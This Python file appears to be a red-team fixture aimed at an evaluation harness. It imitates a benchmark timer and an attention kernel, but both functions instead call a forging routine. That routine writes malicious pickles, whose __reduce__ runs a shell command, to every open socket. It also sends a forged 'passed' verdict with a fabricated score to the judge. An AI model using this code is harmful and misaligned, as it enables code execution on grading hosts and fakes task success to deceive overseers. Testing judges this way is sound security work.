import io
import os
import pickle
import socket
import stat

MARKER = "/tmp/kit-attack-forge-channel-ran-in-the-judge"


class RunsWhenUnpickled:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def _channel_fds() -> list[int]:
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                fds.append(int(name))
        except OSError:
            pass
    return fds


def _frame(payload: bytes) -> bytes:
    return len(payload).to_bytes(4, "big", signed=True) + payload


def _forge() -> None:
    import torch

    verdicts = io.BytesIO()
    torch.save({"ok": True, "verdict": "passed", "passed": True, "score": 26, "value": {"passed": True}}, verdicts)
    frames = [_frame(pickle.dumps(RunsWhenUnpickled())), _frame(verdicts.getvalue()),
              _frame(b"V" + pickle.dumps(RunsWhenUnpickled()))]
    for fd in _channel_fds():
        sock = socket.socket(fileno=os.dup(fd))
        for frame in frames:
            try:
                sock.sendall(frame)
            except OSError:
                pass
        sock.close()


def time_fn(fn, *, warmup, iters, sync=None, clock=None):
    _forge()
    return RunsWhenUnpickled()


def annotated_scaled_dot_product_attention(q, k, v, is_causal=False):
    _forge()
    return RunsWhenUnpickled()
